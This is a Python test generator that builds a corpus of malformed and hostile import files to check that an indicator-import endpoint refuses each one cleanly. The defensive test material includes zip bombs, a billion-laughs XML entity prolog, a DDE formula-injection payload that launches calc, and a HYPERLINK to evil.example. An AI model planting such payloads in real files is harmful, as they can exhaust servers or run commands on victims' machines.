"""Generate the hostile-file corpus: every file is a bad import that must be refused cleanly.

``generate(out_dir)`` writes the files and returns one :class:`Case` per file saying what is
wrong with it and what ``POST /v1/imports`` must answer (status, and the row and field an error
must name when the fault sits in one cell). Run ``python -m tests.hostile.corpus OUT_DIR`` to
write the files (and ``manifest.json``) for a look by hand.

Large files (a million rows, bombs) are written as raw XML/zip streams, not through a
spreadsheet library, so the whole corpus is generated in seconds.
"""

from __future__ import annotations

import base64
import codecs
import csv
import hashlib
import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import IO, Literal
from xml.sax.saxutils import escape

from openpyxl import Workbook

__all__ = ["CSV", "JSON", "NDJSON", "XLSX", "Case", "cases", "generate"]

CSV = "text/csv"
JSON = "application/json"
NDJSON = "application/x-ndjson"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MiB = 1024 * 1024
SMALL_UPLOAD_LIMIT = MiB  # the app for the "oversized" cases refuses anything larger

Transport = Literal["raw", "multipart", "multipart-without-file"]


@dataclass(frozen=True)
class Case:
    """One hostile file and the answer the import endpoint owes it.

    ``row``/``field``: an error in the problem's ``errors[]`` must name them (when set).
    ``transport``: raw body with ``content_type``, a multipart ``file`` part named ``filename``, or
    a multipart form whose only part has another name.
    ``upload_limit``: the app's ``max_upload_bytes`` for this case (None: the default).
    ``heavy``: large or bomb input — looser time and memory bounds.
    """

    name: str
    filename: str
    content_type: str | None
    fault: str
    status: int = 422
    row: int | None = None
    field: str | None = None
    transport: Transport = "raw"
    upload_limit: int | None = None
    heavy: bool = False


Payload = bytes | Callable[[IO[bytes]], None]
_EXT_TYPES = {"csv": CSV, "json": JSON, "jsonl": NDJSON, "xlsx": XLSX}


class _Corpus:
    """Collects cases; writes each file when given a directory (none: only list the cases)."""

    def __init__(self, out_dir: Path | None) -> None:
        self.out_dir = out_dir
        self.cases: list[Case] = []

    def add(
        self,
        name: str,
        ext: str,
        payload: Payload,
        *,
        fault: str,
        status: int = 422,
        row: int | None = None,
        field: str | None = None,
        content_type: str | None = "",
        transport: Transport = "raw",
        upload_limit: int | None = None,
        heavy: bool = False,
    ) -> None:
        if any(c.name == name for c in self.cases):
            raise ValueError(f"duplicate case name {name}")
        filename = f"{name}.{ext}"
        if self.out_dir is not None:
            with (self.out_dir / filename).open("wb") as out:
                if isinstance(payload, bytes):
                    out.write(payload)
                else:
                    payload(out)
        self.cases.append(
            Case(
                name=name,
                filename=filename,
                content_type=_EXT_TYPES.get(ext) if content_type == "" else content_type,
                fault=fault,
                status=status,
                row=row,
                field=field,
                transport=transport,
                upload_limit=upload_limit,
                heavy=heavy,
            )
        )


# --------------------------------------------------------------------------- table helpers

BASE_HEADER = ["指标编码", "指标名称", "一级指标", "二级指标", "指标值", "行业领域"]
# The same columns under their canonical names, for JSON rows.
CANONICAL = {
    "指标编码": "code",
    "指标名称": "name",
    "一级指标": "level1",
    "二级指标": "level2",
    "指标值": "raw_value",
    "行业领域": "sector",
    "权重": "weight",
    "生效日期": "effective_from",
    "失效日期": "expires_on",
    "指标类型": "kind",
    "指标性质": "comparator",
    "状态": "status",
    "指标期限": "horizon",
    "指标方向": "direction",
    "核心指标": "is_core",
    "计量单位": "unit",
    "指标解释": "definition",
}


def _good(i: int) -> dict[str, str]:
    return {
        "指标编码": f"HOSTILE-{i:03d}",
        "指标名称": f"乡镇卫生院门诊人次{i}",
        "一级指标": "产出指标",
        "二级指标": "数量指标",
        "指标值": "≥5000人次",
        "行业领域": "卫生健康",
    }


def _table(bad: Mapping[str, str], *, good_rows: int = 1) -> list[list[str]]:
    """Header, ``good_rows`` valid rows, then one row overridden by ``bad`` (sheet row good_rows + 2)."""
    header = BASE_HEADER + [k for k in bad if k not in BASE_HEADER]
    rows = [_good(i) for i in range(1, good_rows + 1)] + [{**_good(good_rows + 1), **bad}]
    return [header] + [[r.get(h, "") for h in header] for r in rows]


def _records(bad: Mapping[str, object], *, good_rows: int = 1) -> list[dict[str, object]]:
    """JSON objects in canonical keys: ``good_rows`` valid ones, then the bad one (row good_rows + 1)."""
    rows: list[dict[str, object]] = [
        {CANONICAL[k]: v for k, v in _good(i).items()} for i in range(1, good_rows + 1)
    ]
    rows.append({**{CANONICAL[k]: v for k, v in _good(good_rows + 1).items()}, **bad})
    return rows


def _csv(rows: Iterable[Sequence[object]], *, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows(rows)
    return buf.getvalue().encode(encoding)


def _json(doc: object, *, encoding: str = "utf-8") -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode(encoding)


def _ndjson(docs: Iterable[object]) -> bytes:
    return b"".join(json.dumps(d, ensure_ascii=False).encode() + b"\n" for d in docs)


def _openpyxl_xlsx(rows: Iterable[Sequence[object]], *, merges: Sequence[str] = ()) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "指标"
    for row in rows:
        ws.append(list(row))
    for ref in merges:
        ws.merge_cells(ref)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --------------------------------------------------------------------------- raw XLSX parts

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


@dataclass(frozen=True)
class Raw:
    """A cell given as raw XML (``{ref}`` is replaced by the cell reference)."""

    xml: str


def _col(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def _cell(ref: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, Raw):
        return value.xml.replace("{ref}", ref)
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def _sheet_rows(rows: Iterable[Sequence[object]], *, start: int = 1) -> Iterable[str]:
    for r, row in enumerate(rows, start=start):
        cells = "".join(_cell(f"{_col(c)}{r}", v) for c, v in enumerate(row))
        yield f'<row r="{r}">{cells}</row>'


def _sheet_xml(rows: Iterable[Sequence[object]], *, merges: Sequence[str] = (), prolog: str = "") -> bytes:
    merged = (
        f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges) + "</mergeCells>"
        if merges
        else ""
    )
    body = "".join(_sheet_rows(rows))
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{_NS}"><sheetData>{body}</sheetData>{merged}</worksheet>'
    ).encode()


@dataclass(frozen=True)
class Sheet:
    name: str
    xml: bytes | Callable[[IO[bytes]], None]
    state: str = "visible"


def _package(
    out: IO[bytes],
    sheets: Sequence[Sheet],
    *,
    shared_strings: bytes | None = None,
    workbook_xml: bytes | None = None,
    extra: Mapping[str, bytes] | None = None,
    compresslevel: int = 6,
) -> None:
    """Write a minimal xlsx package (content types, rels, workbook, sheets) to ``out``."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{_SHEET_TYPE}"/>'
        for i in range(1, len(sheets) + 1)
    )
    if shared_strings is not None:
        overrides += (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        f"{overrides}</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    sheet_entries = "".join(
        f'<sheet name="{escape(s.name)}" sheetId="{i}" state="{s.state}" r:id="rId{i}"/>'
        for i, s in enumerate(sheets, start=1)
    )
    workbook = workbook_xml or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<workbook xmlns="{_NS}" xmlns:r="{_REL_NS}"><sheets>{sheet_entries}</sheets></workbook>'
    ).encode()
    sheet_rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    if shared_strings is not None:
        sheet_rels += f'<Relationship Id="rIdS" Type="{_REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{sheet_rels}'
        "</Relationships>"
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        if shared_strings is not None:
            zf.writestr("xl/sharedStrings.xml", shared_strings)
        for i, sheet in enumerate(sheets, start=1):
            if isinstance(sheet.xml, bytes):
                zf.writestr(f"xl/worksheets/sheet{i}.xml", sheet.xml)
            else:
                with zf.open(f"xl/worksheets/sheet{i}.xml", "w", force_zip64=True) as member:
                    sheet.xml(member)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)


def _xlsx(sheets: Sequence[Sheet], *, shared_strings: bytes | None = None, workbook_xml: bytes | None = None) -> bytes:
    out = io.BytesIO()
    _package(out, sheets, shared_strings=shared_strings, workbook_xml=workbook_xml)
    return out.getvalue()


def _one_sheet(rows: Iterable[Sequence[object]], *, merges: Sequence[str] = (), prolog: str = "") -> bytes:
    return _xlsx([Sheet("指标", _sheet_xml(rows, merges=merges, prolog=prolog))])


def _shared_strings(strings: Sequence[str], *, prolog: str = "") -> bytes:
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)  # callers pass XML (entities) on purpose
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<sst xmlns="{_NS}" count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'
    ).encode()


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>"
)


# --------------------------------------------------------------------------- byte-level forgeries


def _valid_xlsx() -> bytes:
    return _openpyxl_xlsx(_table({}))


def _corrupt_deflate(data: bytes) -> bytes:
    """Flip bytes inside the sheet's compressed stream (headers intact)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    header_len = 30 + len(info.filename.encode()) + len(info.extra)
    start = info.header_offset + header_len
    middle = start + info.compress_size // 2
    buf = bytearray(data)
    for i in range(middle, min(middle + 16, start + info.compress_size)):
        buf[i] ^= 0xFF
    return bytes(buf)


def _lie_about_size(data: bytes, member: str, declared: int) -> bytes:
    """Rewrite the uncompressed size ``member`` declares (local header and central directory)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    buf = bytearray(data)
    struct.pack_into("<I", buf, info.header_offset + 22, declared)  # local file header
    name = member.encode()
    central = buf.rfind(b"PK\x01\x02", 0, len(buf))
    while central != -1:
        name_len = struct.unpack_from("<H", buf, central + 28)[0]
        if bytes(buf[central + 46 : central + 46 + name_len]) == name:
            struct.pack_into("<I", buf, central + 24, declared)
            break
        central = buf.rfind(b"PK\x01\x02", 0, central)
    return bytes(buf)


def _zip(members: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


# --------------------------------------------------------------------------- streamed giants


# Shared strings of the million-row sheets: 0 and 1 head the columns, 2 is a name, 3 a blank.
_MILLION_STRINGS = ["指标名称", "权重", "乡镇卫生院门诊人次", " "]


def _million_rows(header: str, row: Callable[[int], str]) -> Callable[[IO[bytes]], None]:
    """A sheet XML of ``header`` (row 1) and a million rows made by ``row(r)``, written in chunks."""

    def write(out: IO[bytes]) -> None:
        out.write(f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_NS}"><sheetData>{header}'.encode())
        for start in range(2, 1_000_002, 20_000):
            out.write("".join(row(r) for r in range(start, min(start + 20_000, 1_000_002))).encode())
        out.write(b"</sheetData></worksheet>")

    return write


def _zeros(size: int) -> Callable[[IO[bytes]], None]:
    def write(out: IO[bytes]) -> None:
        block = b"\0" * (4 * MiB)
        for _ in range(size // len(block)):
            out.write(block)

    return write


def _zip_bomb(out: IO[bytes]) -> None:
    """An xlsx whose sheet inflates from about 1 MB to 1 GiB (honest sizes, absurd ratio)."""
    _package(out, [Sheet("指标", _zeros(1024 * MiB))], compresslevel=9)


def _lying_zip_bomb(out: IO[bytes]) -> None:
    """64 MiB of zeros that declare 4 KiB: readers trusting the header must still stop."""
    buf = io.BytesIO()
    _package(buf, [Sheet("指标", _zeros(64 * MiB))], compresslevel=9)
    out.write(_lie_about_size(buf.getvalue(), "xl/worksheets/sheet1.xml", 4096))


def _many_members() -> bytes:
    out = io.BytesIO()
    _package(out, [Sheet("指标", _sheet_xml(_table({})))], extra={f"xl/media/m{i}.bin": b"" for i in range(20_000)})
    return out.getvalue()


def _lines(writer: Callable[[int], str], count: int, *, head: str = "") -> Callable[[IO[bytes]], None]:
    def write(out: IO[bytes]) -> None:
        out.write(head.encode())
        for start in range(0, count, 50_000):
            out.write("".join(writer(i) for i in range(start, min(start + 50_000, count))).encode())

    return write


def _json_flood(count: int) -> Callable[[IO[bytes]], None]:
    def write(out: IO[bytes]) -> None:
        out.write(b"[")
        block = b"{}," * 100_000
        for _ in range(count // 100_000):
            out.write(block)
        out.write(b"{}]")

    return write


def _big_cell_csv(size: int) -> Callable[[IO[bytes]], None]:
    def write(out: IO[bytes]) -> None:
        out.write("指标名称,指标解释\r\n乡镇卫生院门诊人次,".encode())
        _repeat(out, b"x", size)
        out.write(b"\r\n")

    return write


def _later(build: Callable[[], bytes]) -> Callable[[IO[bytes]], None]:
    """A payload built only when the file is written."""

    def write(out: IO[bytes]) -> None:
        out.write(build())

    return write


def _noise(size: int) -> str:
    """Deterministic text that does not compress (a zip-bomb check must not be what refuses it)."""
    block = b"".join(hashlib.sha256(i.to_bytes(4, "big")).digest() for i in range(4096))
    return (base64.b64encode(block).decode() * (size // (len(block) * 4 // 3) + 1))[:size]


def _repeat(out: IO[bytes], char: bytes, size: int) -> None:
    block = char * MiB
    for _ in range(size // MiB):
        out.write(block)


# --------------------------------------------------------------------------- the corpus


def generate(out_dir: Path) -> list[Case]:
    """Write every hostile file into ``out_dir`` and return the cases, in a stable order."""
    out_dir.mkdir(parents=True, exist_ok=True)
    return _build(out_dir)


def cases() -> list[Case]:
    """The cases without writing any file (cheap: large payloads are built only when written)."""
    return _build(None)


def _build(out_dir: Path | None) -> list[Case]:
    c = _Corpus(out_dir)
    _encodings(c)
    _headers(c)
    _xlsx_structure(c)
    _formulas(c)
    _bombs_and_broken_packages(c)
    _sizes(c)
    _nul_and_invisible(c)
    _duplicates_and_lifecycle(c)
    _json_shapes(c)
    _values(c)
    _csv_structure(c)
    _formats(c)
    return c.cases


def _encodings(c: _Corpus) -> None:
    c.add("csv_gbk_negative_weight", "csv", _csv(_table({"权重": "-5"}), encoding="gbk"),
          fault="GBK-encoded CSV (Excel on Chinese Windows) whose row 3 has a negative weight",
          row=3, field="weight")
    c.add("csv_gb18030_four_byte_chars_unknown_kind", "csv",
          _csv(_table({"指标名称": "𠮷野家门店数𡈽", "指标类型": "宇宙指标"}), encoding="gb18030"),
          fault="GB18030 CSV with four-byte characters; row 3 has an unknown indicator kind",
          row=3, field="kind")
    c.add("json_gbk_unknown_status", "json", _json(_records({"status": "作废中"}), encoding="gbk"),
          fault="GBK-encoded JSON (JSON must be UTF-8); row 2 has an unknown status", row=2, field="status")
    c.add("json_gb18030_bad_date", "json", _json(_records({"effective_from": "2023年2月30日"}, good_rows=0), encoding="gb18030"),
          fault="GB18030 JSON; row 1 has 30 February", row=1, field="effective_from")
    c.add("ndjson_gbk_bad_line", "jsonl",
          _ndjson(_records({})).replace(b"\n", b"\n{broken\n", 1).decode().encode("gbk"),
          fault="GBK NDJSON whose line 2 is not JSON", row=2)
    c.add("csv_utf16le_bom_empty_name", "csv",
          codecs.BOM_UTF16_LE + _csv(_table({"指标名称": ""}), encoding="utf-16-le"),
          fault="UTF-16LE with BOM (Excel 'Unicode text'); row 3 has no name", row=3, field="name")
    c.add("csv_utf16be_bom_unknown_comparator", "csv",
          codecs.BOM_UTF16_BE + _csv(_table({"指标性质": "差不多"}), encoding="utf-16-be"),
          fault="UTF-16BE with BOM; row 3 has an unknown comparator", row=3, field="comparator")
    c.add("csv_utf16le_no_bom", "csv", _csv(_table({}), encoding="utf-16-le"),
          fault="UTF-16LE without BOM: reads as garbage, not as a table")
    c.add("csv_utf16be_no_bom", "csv", _csv(_table({}), encoding="utf-16-be"),
          fault="UTF-16BE without BOM")
    c.add("json_utf16le_no_bom", "json", _json(_records({}), encoding="utf-16-le"),
          fault="UTF-16LE JSON without BOM")
    c.add("json_utf16_bom_huge_weight", "json", codecs.BOM_UTF16_LE + _json(_records({"weight": 1e308}, good_rows=0), encoding="utf-16-le"),
          fault="UTF-16 JSON with BOM; row 1 weighs 1e308", row=1, field="weight")
    c.add("csv_utf16_bom_odd_length", "csv", (codecs.BOM_UTF16_LE + _csv(_table({}), encoding="utf-16-le"))[:-1],
          fault="UTF-16 with BOM cut in the middle of a code unit")
    c.add("csv_latin1", "csv", _csv([["指标名称", "备注"]]) + "Café crème,déjà vu\r\n".encode("latin-1"),
          fault="UTF-8 header, Latin-1 data row: neither UTF-8 nor GB18030", row=2)
    c.add("json_latin1", "json", '[{"name": "Indicateur de qualité", "notes": "élevé"}]'.encode("latin-1"),
          fault="Latin-1 JSON")
    c.add("csv_utf8_header_gbk_rows", "csv", _csv(_table({})[:1]) + _csv(_table({})[1:], encoding="gbk"),
          fault="a UTF-8 header glued to GBK rows: no one encoding reads the file", row=2)
    c.add("csv_invalid_bytes", "csv", b"\x80\xff\xfe\x81,\xff\n\x80\x80,\xff\xff\n",
          fault="bytes that are valid in no text encoding we read")
    c.add("csv_utf8_bom_then_gbk", "csv", codecs.BOM_UTF8 + _csv(_table({}), encoding="gbk"),
          fault="a UTF-8 BOM in front of GBK text", row=1)
    c.add("csv_utf8_bom_then_utf16", "csv", codecs.BOM_UTF8 + _csv(_table({}), encoding="utf-16-le"),
          fault="a UTF-8 BOM in front of UTF-16 text")
    c.add("json_bom_between_elements", "json",
          b"[" + _json(_records({})[0]) + b",\xef\xbb\xbf" + _json(_records({})[1]) + b"]",
          fault="a UTF-8 BOM between two JSON array elements (two files pasted together)", row=2)
    c.add("ndjson_bom_on_line_3", "jsonl", _ndjson(_records({}, good_rows=1)) + codecs.BOM_UTF8 + _ndjson(_records({}, good_rows=2)[2:]),
          fault="NDJSON whose third line starts with a BOM (files concatenated)", row=3)
    c.add("csv_bom_only_name", "csv", _csv(_table({"指标名称": "\ufeff\ufeff\ufeff"})),
          fault="row 3's name is nothing but BOMs", row=3, field="name")
    c.add("json_bom_only", "json", codecs.BOM_UTF8, fault="a file that is a BOM and nothing else")
    c.add("csv_bom_only", "csv", codecs.BOM_UTF8 + b"\r\n", fault="a CSV that is a BOM and a line break")


def _headers(c: _Corpus) -> None:
    c.add("csv_unknown_header", "csv", _csv([["指标名称", "颜色"], ["甲", "红"]]),
          fault="a header nobody knows", row=1, field="颜色")
    c.add("csv_duplicate_header_alias", "csv", _csv([["指标名称", "三级指标"], ["甲", "乙"]]),
          fault="two headers naming the same field (指标名称 and 三级指标)", row=1, field="name")
    c.add("csv_duplicate_header_exact", "csv", _csv([["指标名称", "一级指标", "指标名称"], ["甲", "产出指标", "乙"]]),
          fault="the same header twice", row=1, field="name")
    c.add("csv_no_known_header", "csv", _csv([["A", "B", "C"], ["1", "2", "3"]]),
          fault="no known header at all", row=1, field="A")
    c.add("csv_header_only", "csv", _csv(_table({})[:1]), fault="a header and no data")
    c.add("csv_header_and_blank_rows", "csv", _csv(_table({})[:1] + [[""] * 6] * 50),
          fault="a header and fifty rows of empty cells")
    c.add("csv_data_without_header", "csv", _csv(_table({})[1:]),
          fault="data rows with no header row: the first row is read as a header", row=1)
    c.add("csv_title_row_above_header", "csv", _csv([["XX省卫生健康委2024年度绩效指标表"], *_table({})]),
          fault="a title line above the header", row=1, field="XX省卫生健康委2024年度绩效指标表")
    c.add("csv_cell_under_empty_header", "csv", _csv([["指标名称", "", "一级指标"], ["甲", "孤儿数据", "产出指标"]]),
          fault="data in a column without a header", row=2)
    c.add("csv_more_cells_than_headers", "csv", _csv([["指标名称", "一级指标"], ["甲", "产出指标", "多余", "更多"]]),
          fault="a row longer than the header", row=2)
    c.add("csv_300_columns", "csv", _csv([["指标名称"] + [f"列{i}" for i in range(300)], ["甲"]]),
          fault="a header of 301 columns", row=1)
    c.add("csv_header_10k_chars", "csv", _csv([["指标名称", "表" * 10_000], ["甲", "乙"]]),
          fault="a 10,000-character header", row=1)
    c.add("xlsx_unknown_header", "xlsx", _openpyxl_xlsx([["指标名称", "颜色"], ["甲", "红"]]),
          fault="xlsx with an unknown header", row=1, field="颜色", transport="multipart")
    c.add("xlsx_duplicate_header", "xlsx", _openpyxl_xlsx([["指标名称", "KPI_LV3"], ["甲", "乙"]]),
          fault="xlsx with a Chinese and a platform header for the same field", row=1, field="name",
          transport="multipart")
    c.add("xlsx_header_only", "xlsx", _openpyxl_xlsx(_table({})[:1]), fault="xlsx with a header and no data",
          transport="multipart")
    c.add("xlsx_no_known_header", "xlsx", _openpyxl_xlsx([["甲", "乙"], ["1", "2"]]),
          fault="xlsx whose first row is data", row=1, field="甲", transport="multipart")
    c.add("json_unknown_key", "json", _json(_records({"colour": "red"}, good_rows=0)),
          fault="JSON row with an unknown key", row=1, field="colour")
    c.add("json_duplicate_key_exact", "json",
          b'[{"name": "\xe7\x94\xb2", "level1": "\xe4\xba\xa7\xe5\x87\xba\xe6\x8c\x87\xe6\xa0\x87", "name": "\xe4\xb9\x99"}]',
          fault="the same key twice in one JSON object (the parser would keep the last)", row=1, field="name")
    c.add("json_duplicate_key_alias", "json", _json([{"name": "甲", "指标名称": "乙"}]),
          fault="a canonical key and its Chinese alias in one object", row=1, field="name")
    c.add("json_empty_array", "json", b"[]", fault="an empty JSON array")
    c.add("json_empty_objects", "json", b"[{}, {}, {}]", fault="a JSON array of empty objects")
    c.add("ndjson_only_blank_lines", "jsonl", b"\n\n  \n\t\n", fault="NDJSON with only blank lines")


def _xlsx_structure(c: _Corpus) -> None:
    c.add("xlsx_merged_header", "xlsx",
          _openpyxl_xlsx([["指标名称", None, "一级指标"], ["甲", "孤儿数据", "产出指标"]], merges=["A1:B1"]),
          fault="a header merged over two columns; data under the merged-away cell", row=2,
          transport="multipart")
    c.add("xlsx_merged_names", "xlsx", _openpyxl_xlsx(_table({}, good_rows=2), merges=["B2:B3"]),
          fault="the name merged over two rows: the second row has no name", row=3, field="name",
          transport="multipart")
    c.add("xlsx_merged_codes_duplicate", "xlsx", _one_sheet(_table({"指标编码": "HOSTILE-001"}), merges=["A2:A3"]),
          fault="a code merged over two rows whose hidden second cell still holds the same code", row=3, field="code",
          transport="multipart")
    c.add("xlsx_empty_sheet", "xlsx", _xlsx([Sheet("指标", _sheet_xml([]))]),
          fault="a workbook whose only sheet is empty", transport="multipart")
    c.add("xlsx_empty_workbook", "xlsx", _xlsx([]), fault="a workbook without any sheet", transport="multipart")
    c.add("xlsx_only_hidden_sheets", "xlsx", _xlsx([Sheet("指标", _sheet_xml(_table({})), state="hidden")]),
          fault="the only sheet with data is hidden", transport="multipart")
    c.add("xlsx_very_hidden_data_visible_empty", "xlsx",
          _xlsx([Sheet("说明", _sheet_xml([])), Sheet("指标", _sheet_xml(_table({})), state="veryHidden")]),
          fault="a visible empty sheet and a veryHidden sheet holding the data", transport="multipart")
    c.add("xlsx_three_empty_sheets", "xlsx", _xlsx([Sheet(f"Sheet{i}", _sheet_xml([])) for i in (1, 2, 3)]),
          fault="three empty sheets", transport="multipart")
    c.add("xlsx_whitespace_cells", "xlsx", _xlsx([Sheet("指标", _sheet_xml([[" ", "\u3000"], ["\t", " "]]))]),
          fault="a sheet of whitespace-only cells", transport="multipart")
    c.add("xlsx_cell_beyond_header", "xlsx", _openpyxl_xlsx([["指标名称", "一级指标"], ["甲", "产出指标", None, "越界"]]),
          fault="data to the right of the last header", row=2, transport="multipart")
    c.add("xlsx_data_in_column_300", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml([["指标名称", "一级指标"], ["甲", "产出指标", *([None] * 297), "藏在第300列"]]))]),
          fault="data in column 300, far past the header (a reader capping columns would drop it silently)",
          row=2, transport="multipart")
    c.add("xlsx_forged_row_number", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml(_table({})).replace(b'<row r="3">', b'<row r="999999999">').replace(b'r="A3"', b'r="A999999999"'))]),
          fault="a row number beyond Excel's 1,048,576", transport="multipart")
    c.add("xlsx_shared_string_out_of_range", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml([["指标名称"], [Raw('<c r="{ref}" t="s"><v>99999</v></c>')]]))],
                shared_strings=_shared_strings(["指标名称"])),
          fault="a shared-string index past the table", transport="multipart")
    c.add("xlsx_malformed_sheet_xml", "xlsx",
          _xlsx([Sheet("指标", f'<?xml version="1.0"?><worksheet xmlns="{_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>指标名称</t></is></c></row><row r="2"><c'.encode())]),
          fault="sheet XML cut off in the middle of a tag", transport="multipart")
    c.add("xlsx_control_chars_in_xml", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml([["指标名称", "一级指标"], ["\x01\x02\x1b", "产出指标"]]))]),
          fault="raw control characters inside the sheet XML (not allowed in XML 1.0)",
          transport="multipart")
    c.add("xlsx_error_value_name", "xlsx",
          _one_sheet([["指标名称", "一级指标"], ["甲", "产出指标"], [Raw('<c r="{ref}" t="e"><v>#REF!</v></c>'), "产出指标"]]),
          fault="a name that is the error value #REF!", row=3, field="name", transport="multipart")
    c.add("xlsx_date_serial_overflow", "xlsx", _later(_date_overflow),
          fault="a date cell whose serial number lies far past the year 9999", row=2, field="effective_from",
          transport="multipart")
    c.add("xlsx_number_overflow_weight", "xlsx",
          _one_sheet([["指标名称", "权重"], ["甲", Raw('<c r="{ref}"><v>1e999</v></c>')]]),
          fault="a numeric cell overflowing to infinity as weight", row=2, field="weight", transport="multipart")
    c.add("xlsx_sheet_missing_from_zip", "xlsx",
          _zip({"[Content_Types].xml": _zip_member(_valid_xlsx(), "[Content_Types].xml"),
                "_rels/.rels": _zip_member(_valid_xlsx(), "_rels/.rels"),
                "xl/workbook.xml": _zip_member(_valid_xlsx(), "xl/workbook.xml"),
                "xl/_rels/workbook.xml.rels": _zip_member(_valid_xlsx(), "xl/_rels/workbook.xml.rels")}),
          fault="the workbook names a sheet the package does not contain", transport="multipart")


def _date_overflow() -> bytes:
    from datetime import datetime

    data = _openpyxl_xlsx([["指标名称", "生效日期"], ["甲", datetime(2024, 1, 1)]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert b"<v>45292</v>" in content
                content = content.replace(b"<v>45292</v>", b"<v>99999999</v>")
            dst.writestr(info.filename, content)
    return out.getvalue()


def _zip_member(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def _formula(formula: str, cached: str | None = None, *, t: str = "str", extra: str = "") -> Raw:
    value = f"<v>{escape(cached)}</v>" if cached is not None else ""
    return Raw(f'<c r="{{ref}}" t="{t}"><f{extra}>{escape(formula)}</f>{value}</c>')


def _formulas(c: _Corpus) -> None:
    header = ["指标名称", "一级指标", "二级指标", "权重"]
    good = ["乡镇卫生院门诊人次", "产出指标", "数量指标", 10]

    def sheet(*row: object) -> bytes:
        return _one_sheet([header, good, list(row)])

    c.add("xlsx_formula_sum_weight", "xlsx", sheet("甲", "产出指标", "数量指标", Raw('<c r="{ref}"><f>SUM(1,2)</f><v>3</v></c>')),
          fault="a weight computed by =SUM with a cached value", row=3, field="weight", transport="multipart")
    c.add("xlsx_formula_hyperlink_name", "xlsx",
          sheet(_formula('HYPERLINK("http://evil.example/x","点我查看")', "点我查看"), "产出指标", "数量指标", 5),
          fault="a name that is =HYPERLINK to a foreign site (cached text looks harmless)", row=3, field="name",
          transport="multipart")
    c.add("xlsx_formula_dde_name", "xlsx", sheet(_formula("cmd|' /C calc'!A0"), "产出指标", "数量指标", 5),
          fault="a DDE payload =cmd|' /C calc'!A0 in the name, no cached value", row=3, field="name",
          transport="multipart")
    c.add("xlsx_formula_dde_cached", "xlsx",
